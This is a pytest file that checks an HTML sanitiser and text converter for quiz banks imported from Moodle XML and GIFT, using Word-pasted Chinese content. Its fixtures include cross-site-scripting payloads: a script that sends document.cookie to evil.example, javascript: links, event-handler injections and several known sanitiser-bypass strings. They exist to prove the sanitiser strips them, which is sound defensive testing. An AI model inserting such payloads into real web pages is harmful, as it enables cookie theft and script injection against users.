"""HTML of imported banks cleaned by nh3 to an allow-list, then kept as text line by line."""

import pytest

from assessments.bank_formats import bank_parse, html_sanitise, html_to_text

# What Word puts on the clipboard, pasted into Moodle's editor; and what someone might plant.
WORD = (
    '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><title>Doc</title>'
    '<style>p.MsoNormal{margin:0cm;font-family:"Calibri"} .evil{}</style></head><body>'
    "<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml>"
    "<![endif]-->"
    '<p class="MsoNormal" style="mso-margin-top-alt:auto" onclick="steal()">'
    '<span style="font-family:宋体;mso-bidi-font-family:Arial">手机<b>性能故障</b>退货期限'
    "</span><o:p></o:p></p>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<p class="MsoListParagraph"><a href="javascript:alert(1)" onmouseover="x()">见规定</a>'
    "</p></body></html>"
)


def test_sanitise_drops_style_script_handlers_and_word_markup():
    clean = html_sanitise(WORD)

    for gone in (
        "<style",
        "margin:0cm",
        "<script",
        "document.cookie",
        "onclick",
        "onmouseover",
        "javascript:",
        "class=",
        "style=",
        "o:p",
        "mso",
        "WordDocument",
        "<!--",
        "Doc",
    ):
        assert gone not in clean, gone  # fmt: skip
    assert "<p>" in clean and "<b>性能故障</b>" in clean


def test_sanitise_keeps_the_allowed_tags_and_http_links_only():
    clean = html_sanitise(
        "<p>a<sub>2</sub><sup>3</sup><u>u</u><em>e</em><i>i</i><strong>s</strong></p>"
        "<ul><li>一</li></ul><ol><li>二</li></ol>"
        "<table><thead><tr><th>型号</th></tr></thead><tbody><tr><td>X1</td></tr></tbody></table>"
        '<a href="https://example.com/a" target="_blank">ok</a><a href="ftp://x/y">ftp</a>'
        '<img src="data:image/png;base64,AAAA" onerror="x()"><iframe src="https://x"></iframe>'
    )

    for kept in (
        "<sub>2</sub>",
        "<sup>3</sup>",
        "<u>u</u>",
        "<em>e</em>",
        "<i>i</i>",
        "<strong>s</strong>",
        "<ul><li>一</li></ul>",
        "<ol><li>二</li></ol>",
        "<th>型号</th>",
        "<td>X1</td>",
        '<a href="https://example.com/a">ok</a>',
    ):
        assert kept in clean, kept  # fmt: skip
    assert "<a>ftp</a>" in clean
    assert "data:" not in clean and "onerror" not in clean and "iframe" not in clean


def test_text_of_word_html_is_its_words_one_line_per_paragraph():
    assert html_to_text(WORD) == ("手机性能故障退货期限\n见规定", False)


def test_lists_and_tables_stay_readable_and_entities_are_read():
    markup = (
        "<p>检查：</p><ul><li>外观</li><li>屏幕</li></ul>"
        "<table><tr><th>型号</th><th>电压</th></tr><tr><td>X1</td><td>&lt;5V&gt;</td></tr></table>"
        "<p>A&amp;B&nbsp;C<br>下一行</p>"
    )
    assert html_to_text(markup) == ("检查：\n外观\n屏幕\n型号 电压\nX1 <5V>\nA&B C\n下一行", False)


def test_an_image_is_noticed_whatever_its_address():
    assert html_to_text('<p>看图<img src="@@PLUGINFILE@@/a.png"></p>') == ("看图", True)


def _word_question(kind_answers: str) -> bytes:
    word = f"<![CDATA[{WORD}]]>"
    return (
        '<?xml version="1.0" encoding="UTF-8"?><quiz>'
        '<question type="category"><category><text>$course$/top/三包</text></category></question>'
        f'<question type="multichoice"><name><text>粘贴</text></name>'
        f'<questiontext format="html"><text>{word}</text></questiontext>'
        f'<generalfeedback format="html"><text>{word}</text></generalfeedback>'
        f'<correctfeedback format="html"><text>{word}</text></correctfeedback>'
        f"{kind_answers}</question></quiz>"
    ).encode()


def test_word_pasted_moodle_xml_imports_as_clean_text_everywhere():
    answers = (
        f'<answer fraction="100" format="html"><text><![CDATA[{WORD}]]></text>'
        f'<feedback format="html"><text><![CDATA[<p onclick="x()">对<script>x()</script></p>]]>'
        "</text></feedback></answer>"
        '<answer fraction="0" format="html"><text><![CDATA[<p class="MsoNormal">15日'
        "<o:p></o:p></p><style>.a{}</style>]]></text></answer>"
    )
    bank = bank_parse(_word_question(answers), "b.xml")

    assert bank.errors == []
    (item,) = bank.items
    clean = "手机性能故障退货期限\n见规定"
    assert (item["text"], item["explanation"], item["correct_feedback"]) == (clean, clean, clean)
    assert item["options"] == [(clean, "", True), ("15日", "", False)]
    assert item["option_feedback"][0] == ("对", "")

    # GIFT escapes its own characters (\{ \} \= \:) inside the HTML as anywhere.
    # GIFT escapes its own characters (\\{ \\} \\= \\:) inside the HTML as anywhere.
    gift = (
        '::粘贴::[html]<style>p\\{\\}</style><p class\\="MsoNormal" onclick\\="x()">三包<o\\:p>'
        "</o\\:p></p><script>alert(1)</script>{=<b>包修</b><script>x()</script>#<i>对</i>"
        "<style>.a\\{\\}</style> ~包邮}"
    )
    bank = bank_parse(gift.encode(), "b.gift", default_category=("三包",))

    assert bank.errors == []
    (item,) = bank.items
    assert item["text"] == "三包"
    assert item["options"] == [("包修", "", True), ("包邮", "", False)]
    assert item["option_feedback"][0] == ("对", "")


@pytest.mark.parametrize(
    "markup",
    [
        "<svg><script>alert(1)</script></svg>题目",
        '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">题目',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">题目',
    ],
)
def test_tricky_markup_never_carries_a_script_into_the_text(markup):
    text, _image = html_to_text(markup)
    assert "alert" not in text and "onerror" not in text
